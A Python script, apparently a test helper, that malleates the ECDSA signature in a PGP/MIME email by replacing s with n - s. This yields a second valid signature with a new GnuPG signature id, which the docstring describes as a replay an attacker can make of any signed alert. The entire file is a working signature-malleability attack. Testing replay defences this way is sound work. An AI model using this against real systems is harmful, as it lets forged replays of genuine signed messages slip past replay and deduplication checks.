#!/usr/bin/env python3
"""Malleate the ECDSA signature of a PGP/MIME message: s becomes n - s.

usage: malleate.py IN.eml > OUT.eml

The signature part's OpenPGP signature packet (v4, ECDSA over NIST P-256,
P-384 or P-521) keeps every byte but the MPI of s, replaced by n - s. The
result is an equally valid signature by the same key over the same signed
bytes, with a different encoding and so a different GnuPG signature id:
the replay an attacker can make of any genuine ECDSA-signed alert.
"""
import base64
import os
import re
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from mkmsg import crc24  # noqa: E402  (the armour checksum, written once)

# Group orders by the curve OID GnuPG writes in the key (we only need n).
ORDERS = [
    0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551,
    0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973,
    0x01FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFA51868783BF2F966B7FCC0148F709A5D03BB5C9B8899C47AEBB6FB71E91386409,
]


def packet(data):
    """(tag, header length, body length) of the first packet."""
    h = data[0]
    if h & 0x40:                               # new format
        tag = h & 0x3F
        l0 = data[1]
        if l0 < 192:
            return tag, 2, l0
        if l0 < 224:
            return tag, 3, ((l0 - 192) << 8) + data[2] + 192
        return tag, 6, int.from_bytes(data[2:6], "big")
    tag = (h >> 2) & 0x0F                       # old format
    lt = h & 3
    n = {0: 1, 1: 2, 2: 4}[lt]
    return tag, 1 + n, int.from_bytes(data[1:1 + n], "big")


def mpi(data, at):
    bits = int.from_bytes(data[at:at + 2], "big")
    n = (bits + 7) // 8
    return int.from_bytes(data[at + 2:at + 2 + n], "big"), at + 2 + n


def mpi_bytes(v):
    return v.bit_length().to_bytes(2, "big") + v.to_bytes((v.bit_length() + 7) // 8, "big")


def malleate_packet(data):
    tag, hl, bl = packet(data)
    body = data[hl:hl + bl]
    if tag != 2 or body[0] != 4 or body[2] != 19:
        sys.exit("malleate: not a v4 ECDSA signature packet")
    at = 4
    at += 2 + int.from_bytes(body[at:at + 2], "big")     # hashed subpackets
    at += 2 + int.from_bytes(body[at:at + 2], "big")     # unhashed
    at += 2                                              # left 16 bits
    r, at_s = mpi(body, at)
    s, end = mpi(body, at_s)
    n = next(o for o in ORDERS if o.bit_length() >= r.bit_length() and o > s and o > r)
    new_body = body[:at_s] + mpi_bytes(n - s) + body[end:]
    if len(new_body) >= 192:
        sys.exit("malleate: packet too long for this helper")
    return bytes([0xC0 | 2, len(new_body)]) + new_body + data[hl + bl:]


def main():
    raw = open(sys.argv[1], "rb").read()
    m = re.search(rb"-----BEGIN PGP SIGNATURE-----\r?\n(.*?)\r?\n\r?\n(.*?)\r?\n=(....)\r?\n-----END PGP SIGNATURE-----", raw, re.S)
    if not m:
        # GnuPG writes no armour headers: the blank line follows BEGIN
        m = re.search(rb"-----BEGIN PGP SIGNATURE-----()\r?\n\r?\n(.*?)\r?\n=(....)\r?\n-----END PGP SIGNATURE-----", raw, re.S)
    if not m:
        sys.exit("malleate: no armoured signature")
    data = base64.b64decode(re.sub(rb"\s", b"", m.group(2)))
    out = malleate_packet(data)
    b64 = base64.b64encode(out).decode()
    lines = "\r\n".join(b64[i:i + 64] for i in range(0, len(b64), 64))
    crc = base64.b64encode(crc24(out).to_bytes(3, "big")).decode()
    armour = ("-----BEGIN PGP SIGNATURE-----\r\n\r\n%s\r\n=%s\r\n"
              "-----END PGP SIGNATURE-----" % (lines, crc)).encode()
    sys.stdout.buffer.write(raw[:m.start()] + armour + raw[m.end():])


main()
